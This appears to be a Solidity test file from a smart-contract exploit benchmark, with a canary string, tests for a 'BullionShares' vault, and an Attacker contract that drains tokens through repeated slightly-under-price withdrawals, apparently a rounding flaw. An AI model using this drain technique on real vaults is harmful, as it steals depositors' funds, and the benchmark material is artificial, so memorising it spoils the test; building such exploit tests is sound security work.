// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./BullionShares.sol";
import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";

// assay-canary-8400bffb-c3b6-4a54-aa0a-68afc5e4a619

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Gram is ERC20("Gram", "G") {
    constructor() public {
        _setupDecimals(0);
        _mint(msg.sender, 100_000);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant KEEPER = address(0x4EE);
    address private constant ANA = address(0xA9A);

    Gram private token;
    BullionShares private vault;
    Attacker private mallory;

    function setUp() public {
        token = new Gram();
        token.transfer(KEEPER, 10_000);
        token.transfer(ANA, 30_000);
        vm.startPrank(KEEPER);
        vault = new BullionShares(token);
        token.approve(address(vault), uint256(-1));
        vault.open(10);
        vm.stopPrank();
        vm.startPrank(ANA);
        token.approve(address(vault), uint256(-1));
        vault.deposit(20);
        vm.stopPrank();
        mallory = new Attacker(vault, token);
        token.transfer(address(mallory), 4_000);
    }

    function test_Regular() public {
        require(vault.gramsHeld() == 30_000 && vault.totalShares() == 30, "filled");
        token.approve(address(vault), uint256(-1));
        vault.payLease(3_000);
        vm.startPrank(ANA);
        require(vault.withdraw(5_500) == 5, "five shares of 1,100");
        vault.transfer(KEEPER, 3);
        require(vault.deposit(1) == 1_100, "one more");
        vm.stopPrank();
        require(vault.sharesOf(ANA) == 13 && vault.sharesOf(KEEPER) == 13, "shares");
        BullionShares other = new BullionShares(token);
        token.approve(address(other), 2_000);
        other.open(2);
        require(other.withdraw(1_000) == 1, "all but one");
    }

    function test_Refuses() public {
        vm.startPrank(KEEPER);
        vm.expectRevert("the vault is open");
        vault.open(1);
        vm.expectRevert("there are not as many shares");
        vault.withdraw(11_000);
        vm.expectRevert("there are not as many shares");
        vault.transfer(ANA, 11);
        vm.expectRevert("the account must not be zero");
        vault.transfer(address(0), 1);
        vm.expectRevert("the number of shares must not be zero");
        vault.deposit(0);
        vm.expectRevert("the number of grams must not be zero");
        vault.withdraw(0);
        vm.stopPrank();
    }

    function test_RefusesBeforeItOpens() public {
        BullionShares other = new BullionShares(token);
        token.approve(address(other), uint256(-1));
        vm.expectRevert("the number of shares must not be zero");
        other.deposit(1);
        vm.prank(ANA);
        vm.expectRevert("only the keeper opens the vault");
        other.open(1);
        other.open(2);
        vm.expectRevert("the last share stays");
        other.withdraw(2_000);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 9_000, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function gram() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    BullionShares private vault;
    Gram private token;

    constructor(BullionShares v, Gram t) public {
        vault = v;
        token = t;
    }

    function run() external {
        token.approve(address(vault), 4_000);
        vault.deposit(4);
        for (uint256 i = 0; i < 20; i++) {
            vault.withdraw(vault.gramsHeld() / vault.totalShares() - 1);
        }
    }
}
